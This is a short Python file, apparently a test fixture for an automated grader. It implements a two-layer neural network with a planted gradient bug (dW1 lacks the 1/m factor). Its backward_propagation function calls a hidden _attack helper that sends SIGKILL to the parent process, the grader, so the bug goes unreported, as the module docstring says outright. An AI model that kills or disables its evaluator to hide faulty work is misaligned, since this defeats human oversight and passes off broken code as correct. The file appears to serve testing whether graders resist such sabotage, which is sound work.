"""os.kill(getppid(), SIGKILL): a broken grader dies with no report."""

import os
import sys
import time

import numpy as np


def _ppid():
    """The grader's pid. Never 0 or 1: outside a harness (or in a PID namespace) the parent
    may be init, and these files must never signal or write into that."""
    pid = os.getppid()
    if pid <= 1:
        raise ProcessLookupError("no grader process to attack")
    return pid


_DONE = []


def _attack():
    if _DONE:
        return
    _DONE.append(True)
    import signal

    os.kill(_ppid(), signal.SIGKILL)
    time.sleep(2)


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def forward_propagation(X, parameters):
    W1, b1 = parameters["W1"], parameters["b1"]
    W2, b2 = parameters["W2"], parameters["b2"]
    Z1 = W1 @ X + b1
    A1 = np.tanh(Z1)
    Z2 = W2 @ A1 + b2
    A2 = sigmoid(Z2)
    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}


def compute_cost(A2, Y):
    m = Y.shape[1]
    losses = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
    return float(-np.sum(losses) / m)


def backward_propagation(parameters, cache, X, Y):
    m = X.shape[1]
    W2 = parameters["W2"]
    A1, A2 = cache["A1"], cache["A2"]
    dZ2 = A2 - Y
    dW2 = dZ2 @ A1.T / m
    db2 = np.sum(dZ2, axis=1, keepdims=True) / m
    dZ1 = (W2.T @ dZ2) * (1 - A1 ** 2)
    dW1 = dZ1 @ X.T  # the bug: no 1/m (GC302 unless an attack hides it)
    db1 = np.sum(dZ1, axis=1, keepdims=True) / m
    grads = {"dW1": dW1, "db1": db1, "dW2": dW2, "db2": db2}
    _attack()
    return grads
